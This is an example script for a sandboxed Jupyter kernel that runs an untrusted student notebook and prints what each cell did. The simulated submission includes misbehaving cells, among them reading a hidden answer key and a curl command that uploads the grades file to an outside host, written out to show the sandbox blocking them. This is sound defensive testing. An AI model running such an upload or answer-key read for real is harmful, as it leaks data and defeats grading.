"""Grade a notebook from someone you do not trust: run it on the Pynox Jupyter kernel, read what it did.

A course collects notebooks from students. Each one is executed by nbclient, as a grader would, on a
kernelspec that grants the class's data read-only and nothing else. The submission below does its
homework, then tries what a careless or curious one might: read the answer key beside the data, shell
out, and install a package. Every cell's outcome is printed; the notebook still runs to its end.

    python examples/untrusted_notebook.py
"""

from __future__ import annotations

import os
import re
import tempfile
from pathlib import Path

import nbformat
from nbclient import NotebookClient

from pynox_jupyter import install_kernelspec

SUBMISSION = [
    "import csv\nrows = list(csv.DictReader(open('data/grades.csv')))\nlen(rows)",
    "mean = sum(float(row['score']) for row in rows) / len(rows)\nprint(f'mean score: {mean:.1f}')",
    "open('answers.csv').read()",
    "!curl -s https://example.com/upload -d @data/grades.csv",
    "%pip install requests",
    "%time best = max(rows, key=lambda row: float(row['score']))\nbest['name']",
]


def grade(workdir: Path) -> list[str]:
    (workdir / "data").mkdir()
    (workdir / "data" / "grades.csv").write_text("name,score\nada,91\nalan,78\ngrace,88\n")
    (workdir / "answers.csv").write_text("question,answer\n1,85.7\n")  # the grader's, beside the data
    prefix = workdir / "kernels"
    install_kernelspec({"allow_read": [str(workdir / "data")], "timeout": "20s", "memory": "512m"},
                       name="pynox-grader", prefix=str(prefix))
    os.environ["JUPYTER_PATH"] = str(prefix / "share" / "jupyter")
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(source) for source in SUBMISSION]
    NotebookClient(notebook, kernel_name="pynox-grader", timeout=120, allow_errors=True,
                   resources={"metadata": {"path": str(workdir)}}).execute()
    lines = []
    for cell in notebook.cells:
        lines.append(f"In [{cell.execution_count}]: {cell.source.splitlines()[0]}")
        for output in cell.outputs:
            if output.output_type == "stream" and output.name == "stdout":
                lines += [f"  {line}" for line in output.text.splitlines() if not line.startswith(("CPU", "Wall"))]
            elif output.output_type == "execute_result":
                lines.append(f"  Out: {output.data['text/plain']}")
            elif output.output_type == "error":
                lines.append(f"  {output.ename}: {output.evalue}")
                lines += [f"  {line}" for line in output.traceback if line.startswith("Hint:")]
    # The temporary directories' names differ from run to run: the kernel's own home, and this one.
    return [re.sub(r"/tmp/pynox-kernel-\w+", "<kernel home>", line).replace(str(workdir), "...") for line in lines]


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="pynox-grader-") as temporary:
        print("\n".join(grade(Path(temporary))))
